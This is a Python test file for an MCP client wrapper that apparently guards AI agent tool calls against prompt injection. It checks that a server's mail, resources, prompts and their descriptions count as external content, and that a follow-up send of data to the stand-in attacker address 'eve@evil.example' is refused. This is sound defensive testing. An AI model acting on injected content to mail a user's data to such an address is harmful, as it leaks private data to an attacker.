"""Clients of MCP, of both generations of the SDK, with a server in the same process."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
from mcp.types import Tool

import example
from remit_client import Unprotected
from remit_client.mcp import definitions, protect

from .spec import MAIL, READ, Adapter, Office, Run, send

try:
    from mcp import Client
    from mcp.server.mcpserver import MCPServer
except ImportError:
    from mcp.server.fastmcp import FastMCP as MCPServer  # type: ignore[no-redef, attr-defined]
    from mcp.shared.memory import create_connected_server_and_client_session  # type: ignore[attr-defined]

    @asynccontextmanager
    async def connected(server: Any) -> AsyncIterator[Any]:
        async with create_connected_server_and_client_session(server._mcp_server) as client:
            yield client
else:

    @asynccontextmanager
    async def connected(server: Any) -> AsyncIterator[Any]:
        async with Client(server) as client:
            yield client.session


second = pytest.mark.skipif(MCPServer.__name__ == "FastMCP", reason="the first generation has no Client")


def office_server(office: Office) -> Any:
    server: Any = MCPServer("office")
    for f in office.functions:
        server.tool()(f)
    server.resource("mail://first")(office.read_inbox)
    server.prompt("greeting")(office.read_inbox)
    return server


@asynccontextmanager
async def whole(server: Any) -> AsyncIterator[Any]:
    """The client that the second generation has over a session."""
    async with Client(server) as client:
        yield client


class TestSession(Adapter):
    # A client is told the call alone.
    knows_messages = False
    connected: Any = staticmethod(connected)

    def run(self, run: Run, *, protected: bool = True) -> None:
        asyncio.run(self.arun(run, protected))

    async def arun(self, run: Run, protected: bool) -> None:
        async with self.connected(office_server(run.office)) as client:
            if not protected:
                await self.go(client, run)
                return
            async with run.async_remit() as remit:
                session = await remit.session(tools=await definitions(client), unseen_user=True)
                run.session = session.id
                await session.user(run.task)
                await self.go(protect(session, client, approval_seconds=run.approval_seconds), run)

    async def go(self, client: Any, run: Run) -> None:
        for step in run.script:
            if not isinstance(step, str):
                results = await asyncio.gather(*(client.call_tool(name, arguments) for name, arguments in step))
                run.seen += ["".join(part.text for part in result.content) for result in results]


@second
class TestClient(TestSession):
    connected = staticmethod(whole)


def test_a_refused_call_is_an_error() -> None:
    async def run() -> Any:
        async with connected(office_server(Office())) as client, Run([]).async_remit() as remit:
            session = await remit.session(tools=await definitions(client), unseen_user=True)
            tools = protect(session, client)
            await tools.call_tool(*READ)
            return await tools.call_tool(*send("eve@evil.example"))

    result = asyncio.run(run())
    assert result.model_dump(by_alias=True)["isError"] is True and "eve@evil.example" in result.content[0].text


def test_all_pages_of_tools_are_known() -> None:
    """A server may list its tools page by page."""

    class Page:
        def __init__(self, name: str, cursor: str | None) -> None:
            self.tools = [Tool.model_validate({"name": name, "inputSchema": {"type": "object"}})]
            self.next_cursor = cursor

    class Pages:
        @property
        def session(self) -> Pages:
            return self

        async def list_tools(self, *, params: Any = None) -> Page:
            return Page("second", None) if params else Page("first", "2")

    found: Any = asyncio.run(definitions(Pages()))
    assert [one["name"] for one in found[0]["tools"]] == ["first", "second"]


@pytest.mark.parametrize("read", ["read_resource", "get_prompt"])
def test_what_a_server_gives_besides_results_is_external(read: str) -> None:
    run = Run([])

    async def go() -> Any:
        async with connected(office_server(run.office)) as client, run.async_remit() as remit:
            session = await remit.session(tools=await definitions(client), unseen_user=True)
            run.session = session.id
            await session.user("Do what is next")
            tools = protect(session, client)
            await getattr(tools, read)("mail://first" if read == "read_resource" else "greeting")
            await tools.call_tool(*send("eve@evil.example"))

    asyncio.run(go())
    assert run.office.sent == [] and MAIL in run.events("attachment")[0]["text"]


@pytest.mark.parametrize("read", ["list_resources", "list_prompts"])
def test_what_a_server_lists_is_external(read: str) -> None:
    run = Run([])
    server = office_server(run.office)
    server.resource("mail://second", description=MAIL)(run.office.read_inbox)
    server.prompt("second", description=MAIL)(run.office.read_inbox)

    async def go() -> None:
        async with connected(server) as client, run.async_remit() as remit:
            session = await remit.session(tools=await definitions(client), unseen_user=True)
            run.session = session.id
            await session.user("Do what is next")
            tools = protect(session, client)
            await getattr(tools, read)()
            await tools.call_tool(*send("eve@evil.example"))

    asyncio.run(go())
    assert run.office.sent == [] and MAIL in run.events("attachment")[0]["text"]


def test_requests_by_hand_are_refused() -> None:
    async def run() -> None:
        async with connected(office_server(Office())) as client, Run([]).async_remit() as remit:
            tools = protect(await remit.session(), client)
            assert (await tools.list_tools()).tools
            with pytest.raises(Unprotected):
                tools.send_request
            assert not hasattr(tools, "experimental")

    asyncio.run(run())


@second
def test_the_example_runs(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    example.run("with_mcp", capsys, monkeypatch)
